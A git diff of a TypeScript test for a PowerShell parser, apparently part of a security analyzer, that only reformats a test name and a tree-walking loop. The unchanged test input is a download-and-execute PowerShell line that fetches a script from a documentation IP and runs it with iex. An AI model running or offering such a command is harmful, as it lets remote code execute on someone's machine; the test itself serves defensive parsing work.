@@ -4,7 +4,7 @@
 import { copyTree, loadPowerShellParser } from '../../../src/analyzers/powershell/parser';
 
 describe('PowerShell parser (web-tree-sitter + tree-sitter-powershell wasm)', () => {
-  it('parses PowerShell into a syntax tree with the grammar\'s node types', async () => {
+  it("parses PowerShell into a syntax tree with the grammar's node types", async () => {
     const parser = await loadPowerShellParser();
     const tree = parser.parse("$c = (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'); iex $c", 1000);
     expect(tree).not.toBeNull();
@@ -13,8 +13,13 @@ describe('PowerShell parser (web-tree-sitter + tree-sitter-powershell wasm)', ()
     expect(root!.type).toBe('program');
     const types = new Set<string>();
     const stack = [root!];
-    while (stack.length) { const n = stack.pop()!; types.add(n.type); stack.push(...n.children); }
-    for (const t of ['command', 'command_name', 'invokation_expression', 'member_name', 'string_literal', 'parenthesized_expression']) expect(types).toContain(t);
+    while (stack.length) {
+      const n = stack.pop()!;
+      types.add(n.type);
+      stack.push(...n.children);
+    }
+    for (const t of ['command', 'command_name', 'invokation_expression', 'member_name', 'string_literal', 'parenthesized_expression'])
+      expect(types).toContain(t);
   });
 
   it('loads once and is shared', async () => {
